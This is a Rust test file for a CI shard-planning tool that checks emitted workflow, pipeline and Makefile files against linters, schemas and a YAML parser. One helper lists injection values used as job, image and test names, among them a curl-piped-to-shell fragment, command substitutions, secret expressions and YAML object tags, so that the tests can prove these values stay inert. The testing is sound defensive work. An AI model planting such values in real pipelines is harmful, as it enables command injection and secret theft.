//! Emitted files before judges that share nothing with us: actionlint, zizmor, the systems' own schemas, a YAML
//! parser and make. `run/emitted.rs` runs the emitted scripts.
//!
//! `.ci/run` installs them in `target/tools`; elsewhere a test whose tool is absent says so and is passed over.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;
use tempfile::TempDir;

pub(crate) const MANIFEST: &str = r#"
[workflow]
file = ".github/workflows/ci.yml"
[services.postgres]
[services.redis]
[services.search]
[lanes.unit]
[lanes.integration]
"#;

/// Runners as each system knows some: what follows in the manifest.
pub(crate) const RUNNERS: &str = r#"
[runners.large]
runs_on = ["queue=large", "os=linux"]
[runners.cores]
runs_on = "ubuntu-latest-4-cores"
[runners.metal]
runs_on = ["self-hosted", "linux", "x64"]
[runners.xlarge]
"#;

/// Returns a program of the tools; nothing, after saying so, where it is not installed. In CI it must be.
pub(crate) fn tool(name: &str) -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/tools/bin").join(name);
    if path.exists() {
        return Some(path);
    }
    #[expect(clippy::disallowed_methods, reason = "CI installs the tools, a developer need not")]
    let must = std::env::var_os("CI").is_some();
    assert!(!must, "{name} is not in target/tools: `.ci/run` installs it");
    #[expect(clippy::print_stderr, reason = "a test that is passed over says so")]
    {
        eprintln!("passed over: {name} is not in target/tools");
    }
    None
}

fn shardplan(folder: &Path, words: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shardplan"))
        .args(words)
        .current_dir(folder)
        .env_clear()
        .output()
        .unwrap()
}

/// Returns the lock of these shards, those of the lane `integration` on a runner.
pub(crate) fn lock(shards: &[(&str, &str, &[&str], &[&str])], runner: Option<&str>) -> String {
    let mut text = "version = 1\ninputs = \"by hand\"\n[limits]\n[predicted]\n".to_owned();
    for (name, lane, services, units) in shards {
        let runner = runner.filter(|_| *lane == "integration");
        let runner = runner.map(|runner| format!("runner = \"{runner}\"\n")).unwrap_or_default();
        text.push_str(&format!(
            "[[shard]]\nname = \"{name}\"\nlane = \"{lane}\"\n{runner}services = {services:?}\nunits = {units:?}\n"
        ));
    }
    text
}

pub(crate) const SHARDS: &[(&str, &str, &[&str], &[&str])] = &[
    ("integration-1", "integration", &["postgres", "redis"], &["tests/integration/test_a.py"]),
    ("integration-2", "integration", &["postgres", "search"], &["tests/integration/test_b.py"]),
    ("unit-1", "unit", &[], &["tests/unit"]),
];

/// Returns a project with the fixture's workflow, or one of its own, and the lock above.
fn project(workflow: Option<&str>) -> TempDir {
    let folder = TempDir::new().unwrap();
    let write = |name: &str, text: &str| {
        let path = folder.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/workflows/ci.yml");
    let team = fs::read_to_string(fixture).unwrap();
    write(".github/workflows/ci.yml", workflow.unwrap_or(&team));
    write("shardplan.toml", MANIFEST);
    write("shardplan.lock", &lock(SHARDS, None));
    folder
}

/// Returns the project with the lane `integration` on a runner.
fn project_on(runner: &str) -> TempDir {
    let folder = project(None);
    fs::write(folder.path().join("shardplan.toml"), format!("{MANIFEST}{RUNNERS}")).unwrap();
    fs::write(folder.path().join("shardplan.lock"), lock(SHARDS, Some(runner))).unwrap();
    folder
}

fn emitted(folder: &Path, words: &[&str]) -> String {
    let output = shardplan(folder, &[&["emit"], words, &["--output", "-"]].concat());
    assert!(output.status.success(), "{words:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Returns the kinds of findings that each judge has of a workflow file.
fn findings(text: &str) -> Option<BTreeMap<&'static str, BTreeSet<String>>> {
    let (actionlint, zizmor, schema) = (tool("actionlint")?, tool("zizmor")?, tool("check-jsonschema")?);
    let folder = TempDir::new().unwrap();
    let path = folder.path().join(".github/workflows/ci.yml");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
    let run = |program: &Path, arguments: &[&str]| {
        Command::new(program).args(arguments).arg(&path).current_dir(folder.path()).output().unwrap()
    };
    let mut kinds = BTreeMap::new();
    let said = run(
        &actionlint,
        &["-shellcheck=", "-pyflakes=", "-format", "{{range $e := .}}{{$e.Kind}}: {{$e.Message}}\n{{end}}"],
    );
    let lines = String::from_utf8(said.stdout).unwrap();
    kinds.insert("actionlint", lines.lines().map(str::to_owned).collect());
    let said = run(&zizmor, &["--offline", "--no-progress", "--format", "json-v1"]);
    let found: Vec<Value> = serde_json::from_slice(&said.stdout).unwrap_or_else(|error| {
        panic!("{error}: {}", String::from_utf8_lossy(&said.stderr));
    });
    kinds.insert("zizmor", found.iter().map(|finding| finding["ident"].to_string()).collect());
    let said = run(&schema, &["--builtin-schema", "vendor.github-workflows"]);
    let wrong = if said.status.success() {
        String::new()
    } else {
        String::from_utf8_lossy(&said.stdout).into_owned()
    };
    kinds.insert("schema", wrong.lines().take(1).map(str::to_owned).collect());
    Some(kinds)
}

#[test]
fn the_emitted_workflow_adds_no_kind_of_finding() {
    let project = project(None);
    let before = fs::read_to_string(project.path().join(".github/workflows/ci.yml")).unwrap();
    let Some(original) = findings(&before) else { return };
    for style in ["matrix", "jobs"] {
        for gate in ["", "gate"] {
            let manifest =
                MANIFEST.replace("[services.postgres]", &format!("gate = \"{gate}\"\n[services.postgres]"));
            fs::write(
                project.path().join("shardplan.toml"),
                if gate.is_empty() { MANIFEST.to_owned() } else { manifest },
            )
            .unwrap();
            let text = emitted(project.path(), &["github", "--style", style]);
            for (judge, kinds) in findings(&text).unwrap() {
                let new: Vec<&String> = kinds.difference(&original[judge]).collect();
                assert!(new.is_empty(), "{style} {gate} {judge}: {new:?}\n{text}");
            }
        }
    }
}

#[test]
fn a_runner_in_the_workflow_adds_no_kind_of_finding() {
    let team = project(None);
    let before = fs::read_to_string(team.path().join(".github/workflows/ci.yml")).unwrap();
    let Some(original) = findings(&before) else { return };
    for (runner, label) in [("cores", "ubuntu-latest-4-cores"), ("metal", "self-hosted")] {
        for style in ["matrix", "jobs"] {
            let text = emitted(project_on(runner).path(), &["github", "--style", style]);
            assert!(text.contains(label), "{text}");
            for (judge, kinds) in findings(&text).unwrap() {
                let new: Vec<&String> = kinds.difference(&original[judge]).collect();
                assert!(new.is_empty(), "{runner} {style} {judge}: {new:?}\n{text}");
            }
        }
    }
}

/// Judges must be able to fail, or their silence says nothing.
#[test]
fn the_judges_see_a_broken_workflow() {
    let broken = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    nonsense: 1\n    needs: [b]\n    steps:\n      - uses: actions/checkout@main\n      - run: echo ${{ github.event.issue.title }}\n";
    let Some(found) = findings(broken) else { return };
    assert!(found.values().all(|kinds| !kinds.is_empty()), "{found:?}");
}

/// Returns what `PyYAML` makes of a file.
fn parsed_by_pyyaml(text: &str) -> Option<Value> {
    let python = tool("python")?;
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join("x.yml"), text).unwrap();
    let script =
        "import json, yaml; print(json.dumps(yaml.load(open('x.yml', encoding='utf-8'), yaml.BaseLoader)))";
    let output = Command::new(python).args(["-c", script]).current_dir(folder.path()).output().unwrap();
    assert!(output.status.success(), "{}\n{text}", String::from_utf8_lossy(&output.stderr));
    Some(serde_json::from_slice(&output.stdout).unwrap())
}

/// Names that a pull request could bring.
fn attacks() -> Vec<String> {
    let mut attacks: Vec<String> = [
        "\"; curl x | sh #",
        "${{ secrets.X }}",
        "$(touch pwned)",
        "`touch pwned`",
        "../../x",
        "<script>",
        "a\nb: c",
        "'; touch pwned; '",
        "<< parameters.x >>",
        "&a *a !!python/object:x",
        "%0a::set-output name=x::y",
    ]
    .map(str::to_owned)
    .to_vec();
    attacks.push("x".repeat(10_000));
    attacks
}

#[test]
fn a_job_or_step_with_an_attacking_name_stays_a_name() {
    for attack in attacks() {
        let quoted = serde_json::to_string(&attack).unwrap();
        let workflow = format!(
            "on: push\njobs:\n  unit:\n    name: {quoted}\n    runs-on: ubuntu-latest\n    steps:\n      - name: {quoted}\n        run: pytest tests/unit --cov=x\n      - uses: actions/upload-artifact@v4\n        with: {{name: {quoted}, path: {quoted}}}\n  integration:\n    runs-on: ubuntu-latest\n    services:\n      postgres: {{image: {quoted}}}\n      redis: {{image: redis}}\n      search: {{image: {quoted}}}\n    steps:\n      - run: pytest tests/integration\n        working-directory: {quoted}\n"
        );
        let project = project(Some(&workflow));
        for style in ["matrix", "jobs"] {
            let text = emitted(project.path(), &["github", "--style", style]);
            let Some(parsed) = parsed_by_pyyaml(&text) else { return };
            // Whatever it is called, no script has it in it; a plain word, as long as it may be, does no harm there.
            let is_plain = attack.bytes().all(|byte| byte.is_ascii_alphanumeric());
            let mut scripts = Vec::new();
            for job in parsed["jobs"].as_object().unwrap().values() {
                scripts
                    .extend(job["steps"].as_array().unwrap().iter().filter_map(|step| step["run"].as_str()));
            }
            assert!(scripts.len() >= 4, "{text}");
            assert!(
                is_plain || scripts.iter().all(|script| !script.contains(&attack)),
                "{attack:?} is in a script:\n{text}"
            );
            // Its image is still the one that it was, or an expression that holds it as a string.
            let job = if style == "matrix" { "integration" } else { "integration-2" };
            let image = parsed["jobs"][job]["services"]["search"]["image"].as_str().unwrap();
            let kept = attack.replace('\'', "''");
            assert!(
                image == attack || image.contains(&kept) || attack.contains("${{") || attack.contains('{'),
                "{image:?}"
            );
        }
    }
}

#[test]
fn attacking_images_stay_data_everywhere() {
    for attack in attacks() {
        let quoted = serde_json::to_string(&attack).unwrap();
        let project = project(None);
        let manifest = MANIFEST.replace("[services.search]", &format!("[services.search]\nimage = {quoted}"));
        fs::write(project.path().join("shardplan.toml"), manifest).unwrap();
        for target in ["gitlab", "circleci", "buildkite"] {
            let text = emitted(project.path(), &[target]);
            let Some(parsed) = parsed_by_pyyaml(&text) else { return };
            let scripts = parsed.to_string();
            assert!(scripts.contains("shardplan verify"), "{target}: {text}");
            if target == "gitlab" {
                let image = parsed["test-integration-2"]["services"][1]["name"].as_str().unwrap();
                assert_eq!(image.replace("$$", "$"), attack);
            }
        }
    }
}

/// A shard or service of such a name is refused where it is read.
#[test]
fn attacking_names_of_shards_and_services_are_refused() {
    for attack in attacks() {
        let quoted = serde_json::to_string(&attack).unwrap();
        for key in ["name", "lane", "services"] {
            let project = project(None);
            let value = if key == "services" { format!("[{quoted}]") } else { quoted.clone() };
            let mut shard: BTreeMap<&str, String> = [
                ("name", "\"a-1\"".to_owned()),
                ("lane", "\"unit\"".to_owned()),
                ("services", "[]".to_owned()),
            ]
            .into();
            shard.insert(key, value);
            let lines: String =
                shard.iter().map(|(key, value)| [*key, " = ", value, "\n"].concat()).collect();
            let text =
                format!("version = 1\ninputs = \"x\"\n[limits]\n[predicted]\n[[shard]]\n{lines}units = []\n");
            fs::write(project.path().join("shardplan.lock"), text).unwrap();
            for target in ["github", "make", "gitlab", "circleci", "buildkite", "matrix"] {
                let output = shardplan(project.path(), &["emit", target, "--output", "-"]);
                assert_eq!(output.status.code(), Some(3), "{key} {attack:?} {target}");
                let said = String::from_utf8(output.stderr).unwrap();
                assert!(!said.contains('\u{1b}') && said.lines().count() < 6, "{said}");
            }
        }
    }
}

#[test]
fn the_emitted_makefile_starts_only_what_a_shard_needs_whatever_its_runner() {
    for project in [project(None), project_on("large")] {
        the_makefile_starts_only_what_a_shard_needs(&project);
    }
}

fn the_makefile_starts_only_what_a_shard_needs(project: &TempDir) {
    fs::write(project.path().join("shardplan.mk"), emitted(project.path(), &["make"])).unwrap();
    let run = |target: &str| {
        let arguments = ["-f", "shardplan.mk", "-n", "COMPOSE=compose", "PYTEST=pytest", target];
        Command::new("make").args(arguments).current_dir(project.path()).output()
    };
    let Ok(output) = run("test-integration-2") else { return };
    let said = String::from_utf8(output.stdout).unwrap();
    assert_eq!(
        said,
        "compose up --detach --wait postgres search\nCOVERAGE_FILE=.coverage.integration-2 pytest --shardplan integration-2\n"
    );
    let all = String::from_utf8(run("shardplan").unwrap().stdout).unwrap();
    assert_eq!(all.matches("--shardplan ").count(), 3, "{all}");
}

/// What a system itself says of its files.
#[test]
fn files_of_other_systems_fit_their_schemas_with_and_without_runners() {
    let Some(judge) = tool("check-jsonschema") else { return };
    let fits = |project: &TempDir, schema: &str, text: &str| {
        let path = project.path().join("judged.yml");
        fs::write(&path, text).unwrap();
        let output = Command::new(&judge).args(["--builtin-schema", schema]).arg(&path).output().unwrap();
        (output.status.success(), String::from_utf8_lossy(&output.stdout).into_owned())
    };
    for (target, schema, runner, words) in [
        ("gitlab", "vendor.gitlab-ci", "large", "- queue=large"),
        ("circleci", "vendor.circle-ci", "xlarge", "resource_class: xlarge"),
        ("buildkite", "vendor.buildkite", "large", "queue: large"),
    ] {
        for (project, words) in [(project(None), "shardplan"), (project_on(runner), words)] {
            let text = emitted(project.path(), &[target]);
            assert!(text.contains(words), "{text}");
            let (fit, said) = fits(&project, schema, &text);
            assert!(fit, "{target}: {said}\n{text}");
            // The judge can say no.
            for wrong in ["- 1\njobs\n", "jobs: 7\nsteps: 7\nstages: 7\n"] {
                assert!(!fits(&project, schema, wrong).0, "{schema}");
            }
        }
    }
}

/// Names of tests reach one emitter alone, and stay whole in it.
#[test]
fn attacking_names_of_tests_stay_names_in_the_durations() {
    let project = project(None);
    let ids: Vec<String> =
        attacks().into_iter().map(|attack| format!("tests/unit/test_a.py::test_a[{attack}]")).collect();
    let mut report = csv::Writer::from_writer(Vec::new());
    report.write_record(["test", "seconds", "outcome"]).unwrap();
    for id in &ids {
        report.write_record([id.as_str(), "1.5", "passed"]).unwrap();
    }
    fs::write(project.path().join("report.csv"), report.into_inner().unwrap()).unwrap();
    let output = shardplan(project.path(), &["ingest", "report.csv"]);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let text = emitted(project.path(), &["test-durations"]);
    let durations: BTreeMap<String, f64> = serde_json::from_str(&text).unwrap();
    assert_eq!(durations.keys().collect::<BTreeSet<_>>(), ids.iter().collect::<BTreeSet<_>>());
}

/// Renaming would put a file in the place of a pipe or a device.
#[test]
fn an_output_that_is_no_file_is_written_to_and_stays_what_it_is() {
    use std::os::unix::fs::FileTypeExt as _;
    let project = project(None);
    let pipe = project.path().join("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let reader = std::thread::spawn({
        let pipe = pipe.clone();
        move || fs::read_to_string(pipe).unwrap()
    });
    // It is opened for both ends, so that neither the reader nor the program waits for ever where one fails.
    let held = fs::OpenOptions::new().read(true).write(true).open(&pipe).unwrap();
    let output = shardplan(project.path(), &["emit", "matrix", "--output", "pipe"]);
    drop(held);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(fs::symlink_metadata(&pipe).unwrap().file_type().is_fifo());
    let _ = reader.join().unwrap();
}
